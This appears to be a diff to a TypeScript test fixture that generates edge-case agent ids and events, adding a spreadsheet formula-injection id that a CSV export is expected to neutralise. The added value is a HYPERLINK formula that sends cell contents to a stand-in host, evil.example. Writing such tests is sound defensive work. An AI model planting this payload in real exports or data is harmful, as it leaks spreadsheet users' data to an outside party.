@@ -49,6 +49,8 @@ export const SPECIAL = {
   fullwidth: 'agent-\uFF5E',
   astral: 'agent-\u{1F600}',
   upper: 'Zeta-agent',
+  /** A spreadsheet formula as an agent id: the CSV must neutralise it (DOMAIN.md "Report"). */
+  formula: '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
 } as const;
 
 /**
@@ -181,6 +183,7 @@ export function generateMonth(run: string, bulk = 2400): GeneratedMonth {
     event('customer_onboarded', s.fullwidth, 'customer-1', null, oct(23)),
     event('investment_made', s.astral, 'customer-1', 777_777n, oct(24)),
     event('withdrawal_made', s.upper, 'customer-1', 5n, oct(25)),
+    event('deposit_made', s.formula, 'customer-1', 1500n, oct(26)),
   ];
   phase1.push(...special1);
   // Crossing the tier with an event that happened in October and arrived in December.
